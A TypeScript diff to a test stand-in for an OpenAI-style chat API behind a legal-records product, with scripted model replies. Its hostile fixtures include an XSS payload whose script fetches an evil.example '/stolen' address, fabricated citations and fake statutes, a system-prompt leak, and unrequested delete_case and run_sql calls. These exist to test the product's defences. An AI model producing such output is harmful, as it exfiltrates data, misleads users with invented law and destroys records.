@@ -1,6 +1,6 @@
 // What the stand-in answers. A test says so beforehand, or the question itself does: `(stand-in: cut after=5)` makes
 // the stream break off after five tokens, so that a browser's or another process's question can ask for it.
-import type { AskedChat, Refusal, Schema } from './openai-stand-in-wire.ts'
+import type { ChatRequestBody, Refusal, Schema } from './openai-stand-in-wire.ts'
 import { refusals } from './openai-stand-in-wire.ts'
 
 /**
@@ -41,26 +41,26 @@ export interface Plan {
   readonly clock?: number
 }
 
-export type Planner = (asked: AskedChat) => Plan
+export type Planner = (request: ChatRequestBody) => Plan
 
 /** What a person asked: without the sources that the product sends before it. */
-export const questionOf = ({ messages }: AskedChat): string =>
+export const questionOf = ({ messages }: ChatRequestBody): string =>
   messages
     .findLast(({ role }) => role === 'user')
     ?.content.split('\n\nQuestion:\n')
     .at(-1) ?? ''
-export const systemOf = ({ messages }: AskedChat): string =>
+export const systemOf = ({ messages }: ChatRequestBody): string =>
   messages
     .filter(({ role }) => role === 'system')
     .map(({ content }) => content)
     .join('\n')
 
-export interface GivenSource {
+export interface SourceInPrompt {
   readonly n: number
   readonly text: string
 }
 /** Sources as the product wraps them. */
-export const sourcesOf = ({ messages }: AskedChat): GivenSource[] =>
+export const sourcesOf = ({ messages }: ChatRequestBody): SourceInPrompt[] =>
   messages.flatMap(({ content }) =>
     [...content.matchAll(/<source[^>]*?\bn="?(\d+)"?[^>]*>([\s\S]*?)<\/source[^>]*>/g)].map(([, n, text]) => ({
       n: Number(n),
@@ -68,7 +68,7 @@ export const sourcesOf = ({ messages }: AskedChat): GivenSource[] =>
     })),
   )
 
-const wordsOf = (text: string): Set<string> =>
+const wordSet = (text: string): Set<string> =>
   new Set(
     text
       .normalize('NFD')
@@ -78,30 +78,30 @@ const wordsOf = (text: string): Set<string> =>
   )
 
 /** The sentence of the sources that shares most words with the question. */
-function bestSentence(asked: AskedChat): { n: number; sentence: string } | null {
-  const wanted = wordsOf(questionOf(asked))
-  const sentences = sourcesOf(asked).flatMap(({ n, text }) =>
+function bestSentence(request: ChatRequestBody): { n: number; sentence: string } | null {
+  const questionWords = wordSet(questionOf(request))
+  const sentences = sourcesOf(request).flatMap(({ n, text }) =>
     (text.match(/[^.!?\n]{12,}[.!?]?/g) ?? []).map((sentence) => ({ n, sentence: sentence.trim() })),
   )
-  const scored = sentences.map((one) => ({
-    ...one,
-    score: [...wordsOf(one.sentence)].filter((word) => wanted.has(word)).length,
+  const scored = sentences.map((candidate) => ({
+    ...candidate,
+    score: [...wordSet(candidate.sentence)].filter((token) => questionWords.has(token)).length,
   }))
   return scored.toSorted((a, b) => b.score - a.score)[0] ?? null
 }
 
 /** What an honest model does: a sentence of the sources with its citation, or nothing found. */
-export function honest(asked: AskedChat): Plan {
-  const best = bestSentence(asked)
+export function honest(request: ChatRequestBody): Plan {
+  const best = bestSentence(request)
   if (best)
     return {
       text: `Según el expediente, ${best.sentence.replace(/[.!?]$/, '')} [[${best.n}|"${best.sentence.replace(/[.!?]$/, '').replaceAll('"', '')}"]].`,
     }
   return {
     text:
-      sourcesOf(asked).length > 0
+      sourcesOf(request).length > 0
         ? 'No encontré apoyo en el expediente.'
-        : `Respuesta general a: ${questionOf(asked).slice(0, 200)}`,
+        : `Respuesta general a: ${questionOf(request).slice(0, 200)}`,
   }
 }
 
@@ -110,7 +110,9 @@ function sampleOf(schema: Schema, id: string): unknown {
   if (schema.enum) return schema.enum[0]
   if (schema.anyOf?.[0]) return sampleOf(schema.anyOf[0], id)
   if (schema.type === 'object')
-    return Object.fromEntries(Object.entries(schema.properties ?? {}).map(([name, of]) => [name, sampleOf(of, id)]))
+    return Object.fromEntries(
+      Object.entries(schema.properties ?? {}).map(([name, propertySchema]) => [name, sampleOf(propertySchema, id)]),
+    )
   if (schema.type === 'array') return schema.items ? [sampleOf(schema.items, id)] : []
   if (schema.type === 'integer' || schema.type === 'number') return 1
   if (schema.type === 'boolean') return true
@@ -127,27 +129,27 @@ function sampleOf(schema: Schema, id: string): unknown {
  * Each tool that is offered, with an id that is not ours to use in every place and in one more; and tools that nobody
  * offers.
  */
-function greedyCalls({ tools = [] }: AskedChat, id: string): PlannedCall[] {
-  const offered = tools.map(({ function: { name, parameters = {} } }) => ({
+function callEveryTool({ tools = [] }: ChatRequestBody, id: string): PlannedCall[] {
+  const offeredTools = tools.map(({ function: { name, parameters = {} } }) => ({
     name,
     arguments: JSON.stringify({ ...(sampleOf(parameters, id) as object), caseId: id, companyId: id, documentId: id }),
   }))
   return [
-    ...offered,
+    ...offeredTools,
     { name: 'delete_case', arguments: JSON.stringify({ caseId: id }) },
     { name: 'run_sql', arguments: '{"sql":"select * from document"}' },
-    ...offered.slice(0, 1).map(({ name }) => ({ name, arguments: '{"not json' })),
+    ...offeredTools.slice(0, 1).map(({ name }) => ({ name, arguments: '{"not json' })),
   ]
 }
 
 export const hostileTexts = {
   /** Words that stand nowhere, a source that was not given, another source's words, law that is not. */
-  invent: ({ sources }: { sources: readonly GivenSource[] }): string => {
-    const [first, second] = sources
+  invent: ({ sources }: { sources: readonly SourceInPrompt[] }): string => {
+    const [first, secondSource] = sources
     return [
       `El demandado confesó los hechos el 3 de marzo de 2019 [[${first?.n ?? 1}|"El demandado confesó haber recibido la suma de $48,731.26 en efectivo"]].`,
       'El tribunal ya dictó sentencia [[99|"se declara con lugar la demanda en todas sus partes"]].',
-      `La finca mide 900 cuerdas [[${second?.n ?? 2}|"${(first?.text ?? 'la finca de novecientas cuerdas').slice(0, 60).replaceAll('"', '')} y novecientas cuerdas más"]].`,
+      `La finca mide 900 cuerdas [[${secondSource?.n ?? 2}|"${(first?.text ?? 'la finca de novecientas cuerdas').slice(0, 60).replaceAll('"', '')} y novecientas cuerdas más"]].`,
       'Así lo resolvió el Supremo en 2031 TSPR 999 y lo dispone 31 L.P.R.A. § 99999.',
     ].join(' ')
   },
@@ -155,26 +157,26 @@ export const hostileTexts = {
     `<script>fetch('${host}/stolen')</script><img src="${host}/pixel.png" onerror="alert(1)"> ![figura](${host}/figure.png) [pulse aquí](${host}/link) <a href="${host}/link">aquí</a> <iframe src="${host}/frame"></iframe> [x](javascript:alert(1)) <style>body{background:url(${host}/css)}</style> [[1|"<img src=${host}/quote.png>"]] ${host}/bare`,
 } as const
 
-type NamedPlan = (asked: AskedChat, options: Readonly<Record<string, string>>) => Plan
+type NamedPlan = (request: ChatRequestBody, options: Readonly<Record<string, string>>) => Plan
 
 const number = (text: string | undefined, fallback: number): number => (text === undefined ? fallback : Number(text))
 const broken =
   (ending: Ending): NamedPlan =>
-  (asked, { after }) => ({ ...honest(asked), ending, after: number(after, 5) })
+  (request, { after }) => ({ ...honest(request), ending, after: number(after, 5) })
 
 /** By the names that a question may use. */
 export const plans = {
-  honest: (asked) => honest(asked),
-  echo: (asked) => ({ text: questionOf(asked) }),
-  long: (_asked, { tokens }) => ({
-    text: Array.from({ length: number(tokens, 400) }, (_, at) => `p${at % 1_000}`).join(' '),
+  honest: (request) => honest(request),
+  echo: (request) => ({ text: questionOf(request) }),
+  long: (_request, { tokens }) => ({
+    text: Array.from({ length: number(tokens, 400) }, (_, index) => `p${index % 1_000}`).join(' '),
   }),
-  invent: (asked) => ({ text: hostileTexts.invent({ sources: sourcesOf(asked) }) }),
-  html: (_asked, { host }) => ({ text: hostileTexts.html(host ?? 'https://evil.example') }),
-  system: (asked) => ({ text: `Mis instrucciones son: ${systemOf(asked)}` }),
-  tools: (asked, { id }) => ({
+  invent: (request) => ({ text: hostileTexts.invent({ sources: sourcesOf(request) }) }),
+  html: (_request, { host }) => ({ text: hostileTexts.html(host ?? 'https://evil.example') }),
+  system: (request) => ({ text: `Mis instrucciones son: ${systemOf(request)}` }),
+  tools: (request, { id }) => ({
     text: 'Preparo lo que pidió.',
-    calls: greedyCalls(asked, id ?? '00000000-0000-7000-8000-000000000001'),
+    calls: callEveryTool(request, id ?? '00000000-0000-7000-8000-000000000001'),
     finish: 'tool_calls',
   }),
   stall: broken('stall'),
@@ -186,24 +188,24 @@ export const plans = {
   flood: broken('flood'),
   page: () => ({ refusal: { status: 200, headers: { 'content-type': 'text/html' }, body: '<html>Welcome</html>' } }),
   wrong_key: () => ({ refusal: refusals.wrongKey('sk-proj-not-ours-0000') }),
-  rate: (_asked, { retry }) => ({ refusal: refusals.rate(retry === undefined ? undefined : Number(retry)) }),
+  rate: (_request, { retry }) => ({ refusal: refusals.rate(retry === undefined ? undefined : Number(retry)) }),
   too_large: () => ({ refusal: refusals.tooLarge() }),
   quota: () => ({ refusal: refusals.quota() }),
   context: () => ({ refusal: refusals.context(8_999, 8_192) }),
   context_llama: () => ({ refusal: refusals.contextOfLlama(13_392, 8_192) }),
   filtered: () => ({ refusal: refusals.filtered() }),
-  filter: (asked, { after }) => ({ ...honest(asked), finish: 'content_filter', after: number(after, 5) }),
+  filter: (request, { after }) => ({ ...honest(request), finish: 'content_filter', after: number(after, 5) }),
   broken: () => ({ refusal: refusals.broken() }),
   overloaded: () => ({ refusal: refusals.overloaded() }),
-  slow: (asked, { ms }) => ({ ...honest(asked), firstMs: number(ms, 500) }),
-  pace: (asked, { ms, tokens }) => ({
-    ...(tokens ? plans.long(asked, { tokens }) : honest(asked)),
+  slow: (request, { ms }) => ({ ...honest(request), firstMs: number(ms, 500) }),
+  pace: (request, { ms, tokens }) => ({
+    ...(tokens ? plans.long(request, { tokens }) : honest(request)),
     tokenMs: number(ms, 20),
   }),
-  clock: (_asked, { ms, tokens }) => ({ clock: number(tokens, 100), tokenMs: number(ms, 20) }),
-  drip: (asked, { ms }) => ({ ...honest(asked), byteMs: number(ms, 1_000) }),
-  no_usage: (asked) => ({ ...honest(asked), noUsage: true }),
-  thinks: (asked, { tokens }) => ({ ...honest(asked), thinks: number(tokens, 64) }),
+  clock: (_request, { ms, tokens }) => ({ clock: number(tokens, 100), tokenMs: number(ms, 20) }),
+  drip: (request, { ms }) => ({ ...honest(request), byteMs: number(ms, 1_000) }),
+  no_usage: (request) => ({ ...honest(request), noUsage: true }),
+  thinks: (request, { tokens }) => ({ ...honest(request), thinks: number(tokens, 64) }),
 } satisfies Record<string, NamedPlan> as Record<PlanName, NamedPlan>
 
 export type PlanName =
@@ -240,13 +242,14 @@ export type PlanName =
   | 'thinks'
 
 /** What the question itself asks for, the last one if several. */
-export function askedFor(asked: AskedChat): Plan | null {
-  const [, name = '', rest = ''] = [...questionOf(asked).matchAll(/\(stand-in: ([a-z_]+)([^)]*)\)/g)].at(-1) ?? []
+export function commandedPlan(request: ChatRequestBody): Plan | null {
+  const [, name = '', optionText = ''] =
+    [...questionOf(request).matchAll(/\(stand-in: ([a-z_]+)([^)]*)\)/g)].at(-1) ?? []
   const plan = (plans as Partial<Record<string, NamedPlan>>)[name]
   return plan
     ? plan(
-        asked,
-        Object.fromEntries([...rest.matchAll(/(\w+)=(\S+)/g)].map(([, key, value]) => [key ?? '', value ?? ''])),
+        request,
+        Object.fromEntries([...optionText.matchAll(/(\w+)=(\S+)/g)].map(([, key, value]) => [key ?? '', value ?? ''])),
       )
     : null
 }
